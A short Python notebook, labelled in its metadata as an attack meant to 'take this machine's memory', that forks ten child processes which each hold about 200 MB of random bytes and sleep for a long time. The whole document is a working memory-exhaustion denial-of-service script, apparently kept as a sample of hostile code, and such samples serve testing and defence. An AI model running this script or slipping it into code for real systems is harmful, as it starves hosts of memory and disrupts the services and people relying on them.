# ---
# jupyter:
#   attack: {harm: "it would take this machine's memory"}
# ---

# %% [markdown]
# Lets ten children take as much memory each as one may have.

# %%
import os
import time

for _ in range(10):
    if os.fork() == 0:
        hoard = bytearray(os.urandom(1 << 12)) * (200 << 8)
        time.sleep(1000)
time.sleep(1)
